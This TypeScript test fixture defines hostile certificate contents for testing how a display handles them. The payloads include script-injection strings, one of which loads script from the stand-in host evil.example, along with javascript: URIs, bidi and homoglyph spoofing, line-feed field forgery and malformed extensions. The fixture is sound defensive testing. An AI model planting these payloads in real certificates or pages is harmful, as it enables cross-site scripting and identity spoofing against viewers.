import { encodeExtension } from '../../src/x509/tbs.js';
import type { Leaf } from './lab.js';

const issuer = 'https://login.example.com';

/** Certificates whose contents attack whoever looks at them, by what they try. */
export const hostile: Readonly<Record<string, Leaf>> = {
  markup: {
    names: [['email', '"><img src=x onerror="globalThis.attacked=1">@example.com']],
    issuer: '<script>globalThis.attacked=1</script>',
    claims: { 12: '</code></pre><script src="//evil.example/x.js"></script>', 18: '{{7*7}} &lt;b&gt;' },
  },
  'a javascript URI': {
    names: [['uri', 'javascript:globalThis.attacked=1//https://github.com']],
    issuer: 'javascript:alert(1)',
    claims: { 21: 'data:text/html,<script>globalThis.attacked=1</script>' },
  },
  'bidi controls': { names: [['email', 'jane\u202emoc.elpmaxe@evil.example\u2069']], issuer },
  'invisible characters': { names: [['email', 'ja\u200bne\u00ad@example.com\u0000.evil.example']], issuer },
  'look-alikes': { names: [['email', 'j\u0430ne@ex\u0430mple.com']], issuer: 'https://login.ex\u0430mple.com' },
  'right-to-left letters': { names: [['username', 'jane\u05d0\u05d1!example.com/123']], issuer },
  'emoji and combining marks': { names: [['username', '👩🏽‍💻🏴‍☠️ Z\u0310\u0311\u0312algo!example.com']], issuer },
  'line feeds': { names: [['uri', 'https://example.com/a\nIssuer: https://login.example.com\n\tb']], issuer },
  'a very long value': {
    names: [['uri', `https://example.com/${'a'.repeat(20_000)}`]],
    issuer,
    claims: { 9: 'é'.repeat(9000) },
  },
  'many names': { names: Array.from({ length: 40 }, (_, i) => ['email', `person${i}@example.com`] as const), issuer },
  'malformed extensions': {
    raw: [
      encodeExtension('2.5.29.17', true, Buffer.from('3004810241ff', 'hex')),
      encodeExtension('1.3.6.1.4.1.57264.1.8', false, Buffer.from('0c02c328', 'hex')),
      encodeExtension('1.2.3.4', true, Buffer.from('deadbeef', 'hex')),
    ],
  },
  'no name at all': {},
};
